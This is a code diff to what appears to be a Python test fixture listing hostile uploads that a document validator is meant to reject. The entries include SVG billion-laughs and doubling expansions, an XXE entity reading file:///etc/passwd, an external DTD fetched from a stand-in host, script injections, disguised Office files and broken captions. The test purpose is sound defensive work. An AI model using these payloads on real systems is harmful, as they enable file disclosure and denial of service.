@@ -145,6 +145,20 @@ def _laughs() -> bytes:
     return f"<?xml version='1.0'?><!DOCTYPE svg [{''.join(lines)}]>{SVG.replace('Shops', '&a11;')}".encode()
 
 
+def _doubling() -> str:
+    uses = (f'<g id="a{n}"><use href="#a{n + 1}"/><use xlink:href="#a{n + 1}"/></g>' for n in range(40))
+    return f'<defs>{"".join(uses)}<g id="a40"><rect width="1" height="1"/></g></defs><use href="#a0"/>'
+
+
+def _doubling_patterns() -> str:
+    tiles = (
+        f'<pattern id="p{n}" width="9" height="9"><rect fill="url(#p{n + 1})"/><rect style="fill:url(#p{n + 1})"/>'
+        "</pattern>"
+        for n in range(40)
+    )
+    return f'{"".join(tiles)}<rect fill="url(#p0)"/>'
+
+
 def _changed(kind: FileKind, change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
     return lambda: change(valid_file(kind))
 
@@ -178,6 +192,7 @@ HOSTILE: dict[str, Hostile] = {
     # What we know but do not take.
     "GIF": (_gif, "chart.gif", Reason.FOREIGN),
     "an old Word file": (lambda: OLE, "paper.doc", Reason.FOREIGN),
+    "an old Word file with a new name": (lambda: OLE, "paper.docx", Reason.FOREIGN),
     "PowerPoint": (
         docx_with("[Content_Types].xml", _TYPES.replace("wordprocessingml.document", "presentationml.presentation")),
         "slides.pptx", Reason.FOREIGN,
@@ -215,6 +230,9 @@ HOSTILE: dict[str, Hostile] = {
     "an encrypted PDF": (_encrypted_pdf, "paper.pdf", Reason.LOCKED),
     "an encrypted Word document": (
         lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(512), "paper.docx", Reason.LOCKED,
+    ),
+    "an Excel workbook that only some may open": (
+        lambda: OLE + "DRMEncryptedDataSpace".encode("utf-16-le") + bytes(512), "table.xlsx", Reason.LOCKED,
     ),
     "a package with a password": (_locked_entry, "paper.docx", Reason.LOCKED),
     "an encrypted OpenDocument": (
@@ -290,22 +308,44 @@ HOSTILE: dict[str, Hostile] = {
     "a web page as a table": (lambda: b"\xef\xbb\xbf \n<HTML><body>", "table.csv", Reason.WEB_PAGE),
     "a web page as a drawing": (lambda: b"<html><svg/></html>", "plan.svg", Reason.WEB_PAGE),
     "a web page in UTF-16": (lambda: "<script>alert(1)</script>".encode("utf-16"), "notes.txt", Reason.WEB_PAGE),
-    # Drawings that reach out.
-    "a drawing that fetches a picture": (
-        _svg('<image href="https://spy.example/x.png"/>'), "plan.svg", Reason.ACTIVE_DRAWING,
+    # Drawings that stop a browser, or are none. What only reaches out is taken out of them: see drawings.py.
+    "a drawing that reads a file": (
+        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG.replace("Shops", "&x;")}'.encode,
+        "plan.svg", Reason.DEFINITIONS,
     ),
-    "a drawing that fetches a style": (
-        _svg('<rect fill="url(https://spy.example/x#a)"/>'), "plan.svg", Reason.ACTIVE_DRAWING,
+    "a drawing with definitions from elsewhere": (
+        f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://spy.example/x.dtd"> %x;]>{SVG}'.encode,
+        "plan.svg", Reason.DEFINITIONS,
     ),
-    "a drawing with definitions": (
-        lambda: b'<!DOCTYPE svg SYSTEM "x.dtd" [<!ATTLIST svg onload CDATA "alert(1)">]>' + SVG.encode(),
-        "p.svg", Reason.DEFINITIONS,
+    "a drawing with elements in its definitions": (
+        f'<!DOCTYPE svg [<!ENTITY x "<script/>">]>{SVG.replace("Shops", "&x;")}'.encode,
+        "plan.svg", Reason.DEFINITIONS,
+    ),
+    "one word a million times": (
+        f'<!DOCTYPE svg [<!ENTITY x "{"ha" * 500}">]>{SVG.replace("Shops", "&x;" * 1_000_000)}'.encode,
+        "plan.svg", Reason.DEFINITIONS,
+    ),
+    "parts within parts without end": (_svg("<g>" * 5000 + "</g>" * 5000), "p.svg", Reason.ENDLESS_DRAWING),
+    "a drawing that draws itself twice, and twice": (_svg(_doubling()), "p.svg", Reason.ENDLESS_DRAWING),
+    "patterns of patterns": (_svg(_doubling_patterns()), "p.svg", Reason.ENDLESS_DRAWING),
+    "no drawing but called so": (
+        lambda: b'<svg xmlns="http://www.w3.org/1999/xhtml"><p>x</p></svg>', "p.svg", Reason.NO_DRAWING,
     ),
     # Texts.
     "a text with a NUL": (lambda: b"a\x00b", "notes.txt", Reason.NOT_TEXT),
     "a table with bells": (lambda: b"a,b\n\x07,\x1b[2J\n", "table.csv", Reason.NOT_TEXT),
     "a transcript without cues": (lambda: b"WEBVTT\n\nNOTE nothing\n", "talk.vtt", Reason.NO_CUES),
-    "a transcript with broken times": (
-        lambda: VTT.replace("00:00:04.000", "soon").encode(), "talk.vtt", Reason.NO_CUES,
+    "captions with broken times": (
+        lambda: VTT.replace("00:00:04.000", "soon").encode(), "talk.vtt", Reason.BAD_CAPTION,
+    ),
+    "captions with times of another format": (
+        lambda: VTT.replace("04.000", "04,000").encode(), "talk.vtt", Reason.BAD_CAPTION,
+    ),
+    "captions that end before they begin": (
+        lambda: VTT.replace("00:00:04", "00:00:00").encode(), "talk.vtt", Reason.BAD_CAPTION,
+    ),
+    "captions without an arrow": (lambda: VTT.replace("-->", "to").encode(), "talk.vtt", Reason.BAD_CAPTION),
+    "words that belong to no caption": (
+        f"{VTT}\nThese are lost.\n".encode, "talk.vtt", Reason.BAD_CAPTION,
     ),
 }  # fmt: skip
